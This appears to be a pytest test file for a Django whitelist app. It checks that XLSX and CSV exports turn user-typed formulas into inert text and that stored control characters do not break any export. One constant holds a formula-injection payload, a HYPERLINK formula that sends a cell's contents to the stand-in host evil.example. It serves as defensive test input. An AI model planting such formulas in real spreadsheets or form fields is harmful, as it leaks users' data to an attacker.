"""Whatever a department typed, and whatever is stored, every export of an edition writes it as text and works."""

import csv
import io

import pytest
from django.core.files.storage import default_storage
from openpyxl import load_workbook

from apps.whitelist import exports
from apps.whitelist.models import ExportRun, WhitelistItem

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?d="&B5,"点击")'


def _export(edition):
    run = ExportRun.objects.create(edition=edition)
    assert exports.run_export(run_id=run.pk) == "done", ExportRun.objects.get(pk=run.pk).error
    edition.refresh_from_db()
    with default_storage.open(edition.export_name, "rb") as fh:
        return load_workbook(fh)["白名单"]


def _csv_rows(client, edition):
    response = client.get(f"/whitelist/{edition.pk}/items.csv")
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_a_formula_typed_as_a_title_is_text_in_the_xlsx_and_quoted_in_the_csv(client, published):
    item = published.items.get(name="安全教育进校园")
    WhitelistItem.objects.filter(pk=item.pk).update(name=FORMULA, content="-2+3", notes="@SUM(A1)")
    ws = _export(published)
    row = next(r for r in ws.iter_rows(min_row=4) if r[1].value == FORMULA)
    for cell in (row[1], row[6], row[10]):
        assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
    assert (row[6].value, row[10].value) == ("-2+3", "@SUM(A1)")
    assert not any(c.data_type == "f" for r in ws.iter_rows() for c in r)

    line = next(r for r in _csv_rows(client, published) if FORMULA in r[2])
    assert line[2] == "'" + FORMULA and line[7] == "'-2+3" and line[11] == "'@SUM(A1)"


def test_a_stored_control_character_does_not_break_any_export(client, published):
    item = published.items.get(name="安全教育进校园")
    WhitelistItem.objects.filter(pk=item.pk).update(name="安全\x0b教育\x08进校园", content="内容\x1f")
    ws = _export(published)
    assert "安全教育进校园" in [c.value for c in ws["B"]]
    assert any(r[2] == "安全教育进校园" for r in _csv_rows(client, published))
    assert client.get(f"/whitelist/{published.pk}/items.json").status_code == 200
    assert client.get(f"/whitelist/{published.pk}/").status_code == 200
    assert client.get(f"/whitelist/{published.pk}/export.xlsx").status_code == 200
